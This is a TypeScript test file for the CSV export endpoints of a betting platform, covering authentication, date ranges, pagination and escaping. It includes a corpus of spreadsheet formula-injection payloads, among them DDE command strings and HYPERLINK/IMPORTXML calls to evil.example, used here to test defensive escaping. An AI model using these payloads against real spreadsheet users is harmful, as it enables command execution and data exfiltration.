import type { Operation, RequestOf } from '@maidan/contract/operation.ts';
import { exportBets } from '@maidan/contract/records/export-bets.ts';
import { exportMovements } from '@maidan/contract/records/export-movements.ts';
import { exportProfit } from '@maidan/contract/records/export-profit.ts';
import { exportStatement } from '@maidan/contract/records/export-statement.ts';
import { listBets } from '@maidan/contract/records/list-bets.ts';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { databaseForThisFile, nodeForThisFile } from '#testing/for-this-file.ts';
import { createMaidanDriver } from '#conformance/maidan-driver.ts';
import { addRounds } from '#testing/add-rounds.ts';
import { sitDown } from '#testing/play-rounds.ts';
import { headersOf, type Caller } from '#testing/test-app.ts';
import { CSV_BOM, csvLine } from './csv.ts';

let driver: Awaited<ReturnType<typeof createMaidanDriver>>;
const database = await databaseForThisFile();
const node = await nodeForThisFile(database);
beforeAll(async () => {
  driver = await createMaidanDriver(database.db, database.url);
});
afterAll(async () => {
  await driver.close();
});

const dayAt = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
const RANGE = { from: '2026-01-01', to: '2026-12-31' };

async function file<O extends Operation>(caller: Caller | null, operation: O, input: RequestOf<O>) {
  const query = new URLSearchParams(input as Record<string, string>).toString();
  const answer = await node.app.inject({ url: `${operation.path}?${query}`, headers: headersOf(caller) });
  return { status: answer.statusCode, type: answer.headers['content-type'], text: answer.body };
}

test('[MEM-08] a file needs a session in the headers, a named range, and at most a year', async () => {
  const member = await node.registerAndLogin();
  for (const operation of [exportBets, exportMovements, exportProfit, exportStatement]) {
    expect((await file(null, operation, RANGE)).status).toBe(401);
    const url = `${operation.path}?from=2026-01-01&to=2026-01-02&token=${member.token}`;
    expect((await node.app.inject({ url, headers: { cookie: member.cookie } })).statusCode).toBe(401);
    const long = await file(member, operation, { from: '2025-01-01', to: '2026-12-31' });
    expect([long.status, long.type]).toEqual([400, 'application/json; charset=utf-8']);
    expect((await file(member, operation, { from: '2026-01-01' } as typeof RANGE)).status).toBe(400);
  }
});

test('[MEM-08] what a spreadsheet would take for a formula is only text, and numbers stay numbers', () => {
  expect(csvLine(['=1+1', '+88017', '-2+3', '@SUM(A1)', '\tx', '\rx'])).toBe(
    `"'=1+1","'+88017","'-2+3","'@SUM(A1)","'\tx","'\rx"\r\n`,
  );
  expect(csvLine(['say "hi"', 'a,b', 'line\nbreak', '-12.50', '0.00', null, 7])).toBe(
    `"say ""hi""","a,b","line\nbreak",-12.50,0.00,,7\r\n`,
  );
});

test('[MEM-08] the betting record as a file has every row of the range, in pieces, with the same filters', async () => {
  const member = await node.registerAndLogin();
  await driver.owner.query(
    `insert into game (merchant, node_id, vendor_code, game_code, category, name, slug, released_at,
       engine, poster_seed, sort_order)
     values ('maidan', 'evil', 'CONF', 'evil', 'LIVE', jsonb_build_object('en', '=HYPERLINK("x")', 'bn', 'ক'), 'evil', now(), 'x', 1, 999)`,
  );
  await addRounds(
    database.url,
    member.memberId,
    Array.from({ length: 1203 }, (_, index) => ({
      roundId: `f-${index}`,
      placedAt: new Date(Date.parse('2026-03-01T00:00:00Z') + index * 60_000).toISOString(),
      stake: 1000,
      payout: 250,
      nodeId: index === 0 ? 'evil' : 'conf-slot',
    })),
  );
  const all = await file(member, exportBets, RANGE);
  expect([all.status, all.type]).toEqual([200, 'text/csv; charset=utf-8']);
  expect(all.text.startsWith(`${CSV_BOM}Time (Dhaka),Game,`)).toBe(true);
  const lines = all.text.trimEnd().split('\r\n');
  expect(lines).toHaveLength(1204);
  expect(new Set(lines).size).toBe(1204);
  expect(lines.at(-1)).toBe(
    `2026-03-01 06:00:00,"'=HYPERLINK(""x"")",Conformance,Live casino,Settled,10.00,2.50,-7.50,f-0`,
  );
  const live = await file(member, exportBets, { ...RANGE, category: 'LIVE', language: 'bn' });
  expect(live.text.split('\r\n')).toHaveLength(3);
  expect(live.text).toContain('সম্পন্ন');
  const other = await node.registerAndLogin();
  expect((await file(other, exportBets, RANGE)).text.trimEnd().split('\r\n')).toHaveLength(1);
});

/** What has been a formula, a command or a link in some spreadsheet, and how people hide one. */
const FORMULAS = [
  '=1+1',
  '+1',
  '-1+1|cmd',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML("http://evil.example","//a")',
  '\t=1',
  '\r=1',
  '\n=1',
  "-2+3+cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  ';=1',
  '"=1',
];

test('[MEM-08] T34: no cell of the corpus begins as a formula, and each reads back as it was', () => {
  for (const text of FORMULAS) {
    const line = csvLine([text, 'next']);
    const cell = /^"((?:[^"]|"")*)"|^([^,]*)/.exec(line);
    const read = (cell?.[1] ?? cell?.[2] ?? '').replaceAll('""', '"');
    expect(read.replace(/^'/, '')).toBe(text);
    expect(read).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  }
});

test('[MEM-08] T34: a page of 999 is refused, and fifty who ask for the largest at once are all answered', async () => {
  const member = await node.registerAndLogin();
  await addRounds(
    database.url,
    member.memberId,
    Array.from({ length: 300 }, (_, index) => ({
      roundId: `w-${index}`,
      placedAt: new Date(Date.parse('2026-04-01T00:00:00Z') + index * 1_000).toISOString(),
      stake: 1000,
    })),
  );
  const page = (pageSize: string) => node.callAs(member, listBets, { pageSize });
  for (const size of ['999', '101', '0', '-1', '1e2', '１００'])
    expect((await page(size)).status, size).toBe(400);
  const answers = await Promise.all(Array.from({ length: 50 }, () => page('100')));
  expect(answers.map(({ body }) => (body.success ? body.value.bets.length : body.code))).toEqual(
    Array(50).fill(100),
  );
  const files = await Promise.all(Array.from({ length: 20 }, () => file(member, exportBets, RANGE)));
  expect(new Set(files.map(({ text }) => text.split('\r\n').length))).toEqual(new Set([302]));
});

test('[MEM-08] profit and loss as a file has every day, with the same filters as the page', async () => {
  const member = await node.registerAndLogin();
  await addRounds(database.url, member.memberId, [
    { roundId: 'p-1', placedAt: '2026-05-01T10:00:00Z', stake: 1000, payout: 300 },
    { roundId: 'p-2', placedAt: '2026-05-02T10:00:00Z', stake: 2000, payout: 5000, nodeId: 'conf-live' },
  ]);
  const range = { from: '2026-05-01', to: '2026-05-02' };
  expect((await file(member, exportProfit, range)).text).toBe(
    `${CSV_BOM}Day,Rounds,Stake,Payout,Result\r\n2026-05-02,1,20.00,50.00,30.00\r\n2026-05-01,1,10.00,3.00,-7.00\r\n`,
  );
  const live = (await file(member, exportProfit, { ...range, category: 'LIVE', language: 'bn' })).text;
  expect(live.split('\r\n').slice(1, 3)).toEqual([
    '2026-05-02,1,20.00,50.00,30.00',
    '2026-05-01,0,0.00,0.00,0.00',
  ]);
});

test('[MEM-08] movements and statement as files agree with each other', async () => {
  const member = await node.registerAndLogin();
  const seat = await sitDown(database.db, member.memberId);
  await seat.play('csv-1', '10.00', '25.00');
  const range = { from: dayAt(-2), to: dayAt(2) };
  const movements = (await file(member, exportMovements, range)).text.trimEnd().split('\r\n').slice(1);
  expect(movements.map((line) => line.split(',').slice(1, 4))).toEqual([
    ['Win', '25.00', '10015.00'],
    ['Bet', '-10.00', '9990.00'],
    ['Bonus', '10000.00', '10000.00'],
  ]);
  // What a bonus was for has a name in both languages.
  expect(movements[2]).toMatch(/,Welcome money$/);
  expect((await file(member, exportMovements, { ...range, language: 'bn' })).text).toContain('স্বাগত উপহার');
  const [, day = ''] = (await file(member, exportStatement, range)).text.trimEnd().split('\r\n');
  expect(day.split(',').slice(1)).toEqual([
    '0.00',
    '0.00',
    '0.00',
    '10000.00',
    '0.00',
    '0.00',
    '0.00',
    '-10.00',
    '25.00',
    '10015.00',
    '10015.00',
  ]);
});
